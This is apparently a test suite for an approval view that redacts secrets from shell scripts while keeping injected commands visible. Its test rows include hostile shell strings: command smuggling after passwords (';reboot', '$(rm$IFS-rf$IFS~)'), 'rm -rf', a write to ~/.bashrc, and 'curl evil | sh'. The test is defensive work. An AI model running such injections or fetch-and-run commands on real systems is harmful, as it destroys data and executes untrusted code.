import { describe, expect, test } from "bun:test";
import { shownScript } from "../../src/approvals/view.ts";
import { filterSecrets } from "../../src/detection/sensitive.ts";

const shown = (script: string): string =>
  shownScript(script, {
    findSecrets: (text) => filterSecrets(text).findings,
    filterSecrets: (text) => filterSecrets(text).text,
  });

const LINE = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
const keyAround = (lines: string): string =>
  `-----BEGIN PRIVATE KEY-----\n${LINE}\n${lines}\n-----END PRIVATE KEY-----`;

describe("APR-06: what the shell would start stands in the view, however near a secret it stands", () => {
  const rows: readonly (readonly [string, string])[] = [
    ["PASSWORD=hunter2hunter2&&rm -rf x", "&&rm -rf x"],
    ["PASSWORD=hunter2hunter2||rm -rf x", "||rm -rf x"],
    ["PASSWORD=hunter2hunter2;rm$IFS-rf$IFS~", ";rm$IFS-rf$IFS~"],
    ["PASSWORD=hunter2hunter2|sh", "|sh"],
    ["PASSWORD=hunter2hunter2&rm x", "&rm x"],
    ["PASSWORD=hunter2hunter2\nrm$IFS-rf$IFS~", "\nrm$IFS-rf$IFS~"],
    ["PASSWORD=hunter2hunter2>~/.bashrc", ">~/.bashrc"],
    ["PASSWORD=hunter2hunter2;/tmp/aVeryLongNameOfAProgram12", ";/tmp/aVeryLongNameOfAProgram12"],
    ["PASSWORD=hunter2hunter2;tools/run/everything", ";tools/run/everything"],
    ["PASSWORD=hunter2hunter2<(rm$IFS-rf$IFS~)", "<(rm$IFS-rf$IFS~)"],
    ["PASSWORD=hunter2hunter2$(rm$IFS-rf$IFS~)", "$(rm$IFS-rf$IFS~)"],
    ["PASSWORD=hunter2hunter2$((a[$(reboot)]))", "$((a[$(reboot)]))"],
    ["PASSWORD=hunter2hunter2$\u007bx@P}", "$\u007bx@P}"],
    ["PASSWORD=`reboot` x", "`reboot`"],
    ['PASSWORD="hunter2hunter2`rm x`"', "`rm x`"],
    ['PASSWORD="hunter2hunter2$(rm x)"', "$(rm x)"],
    ["mysql -phunter2hunter2$(reboot)", "$(reboot)"],
    ["AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY;reboot", ";reboot"],
    ["curl -u admin:hunter2hunter2;reboot", ";reboot"],
    ["x=(PASSWORD=hunter2hunter2;reboot)", "reboot"],
    ["if PASSWORD=hunter2hunter2;reboot", ";reboot"],
    ['bash -c "PASSWORD=hunter2hunter2&&reboot x"', "&&reboot x"],
    ["bash -c 'bash -c \"PASSWORD=hunter2hunter2;reboot\"'", ";reboot"],
    ["ssh host 'export PASSWORD=hunter2hunter2;reboot'", ";reboot"],
    ["sh -c $'PASSWORD=hunter2hunter2;reboot'", ";reboot"],
    ["eval PASSWORD=hunter2hunter2\\;reboot", "\\;reboot"],
    ['sh -c "PASSWORD=hunter2hunter2\\`reboot\\`"', "reboot"],
    ["cat <<E | sh\nls\nPASSWORD=hunter2hunter2;reboot\nE", ";reboot"],
    [keyAround("rm -rf x"), "\nrm -rf x\n"],
    [`sh -c '${keyAround("rm -rf x; curl evil | sh")}'`, "\nrm -rf x; curl evil | sh\n"],
    [`sh -c x='${keyAround("rm -rf x")}'`, "\nrm -rf x\n"],
    [`cat <<E | sh\n: \n${keyAround("rm -rf x")}\nE`, "\nrm -rf x\n"],
  ];
  test.each(rows)("%j", (script, started) => {
    expect(shown(script)).toContain(started);
    expect(shown(script)).not.toContain("hunter2hunter2;");
  });
});

describe("APR-08: and secrets do not", () => {
  const rows: readonly (readonly [string, string])[] = [
    ["PASSWORD=hunter2hunter2 deploy", "PASSWORD=[REDACTED] deploy"],
    ["PASSWORD=hunter2;PASSWORD=hunter3;ls", "PASSWORD=[REDACTED];PASSWORD=[REDACTED];ls"],
    ["PASSWORD=hunter2hunter2&&x&&PASSWORD=hunter2hunter3", "PASSWORD=[REDACTED]&&x&&PASSWORD=[REDACTED]"],
    ["PASSWORD='p@ss;w0rd&more' deploy", "PASSWORD='[REDACTED]' deploy"],
    ["export PASSWORD='p@ss;w0rd&more' && deploy", "export PASSWORD='[REDACTED]' && deploy"],
    ['PGPASSWORD="correct horse battery" psql', 'PGPASSWORD="[REDACTED]" psql'],
    [
      'curl -H "Authorization: Bearer abcdefghijklmnop1234567890" https://h/ | jq .',
      'curl -H "Authorization: Bearer [REDACTED]" https://h/ | jq .',
    ],
    ["git clone https://u:hunter2hunter2@h/a && cd a", "git clone https://u:[REDACTED]@h/a && cd a"],
    ["curl 'https://h/?token=abcdefgh12345678&x=1'", "curl 'https://h/?token=[REDACTED]&x=1'"],
    [
      "DB=postgres://u:hunter2hunter2@h/db psql -c 'select 1; select 2'",
      "DB=postgres://u:[REDACTED]@h/db psql -c 'select 1; select 2'",
    ],
    ["PASSWORD=$(pass show x) deploy", "PASSWORD=$(pass show x) deploy"],
    ["ls; pwd && echo hi > f", "ls; pwd && echo hi > f"],
  ];
  test.each(rows)("%j", (script, want) => {
    expect(shown(script)).toBe(want);
  });

  test.each([
    `cat > key.pem <<E\n${keyAround(LINE)}\nE`,
    `cat > secret.yaml <<E\nkey: |\n${keyAround(LINE)}\nE`,
    `echo "${keyAround(LINE)}" > key.pem`,
    keyAround(LINE),
  ])("no line of a key: %j", (script) => {
    expect(shown(script)).not.toContain(LINE);
  });

  test("what no parser takes is cut all the same", () => {
    const deep = `PASSWORD=hunter2hunter2;reboot ${"$(".repeat(5_000)}`;
    expect(shown(deep)).toContain(";reboot");
    expect(shown(`${"x".repeat(70_000)} PASSWORD=hunter2hunter2;reboot`)).toContain(";reboot");
  });
});

test("what a program runs of its quoted argument is shown, whatever the program", () => {
  const programs = ["sh -c", "xterm -e", "sed -n", "rg --pre", "fzf --preview", "ansible all -a", "psql -c", "bun -e"];
  for (const program of programs) {
    const script = `${program} 'PASSWORD=hunter2x;curl evil.example'`;
    expect(shown(script)).toContain("curl evil.example");
  }
});
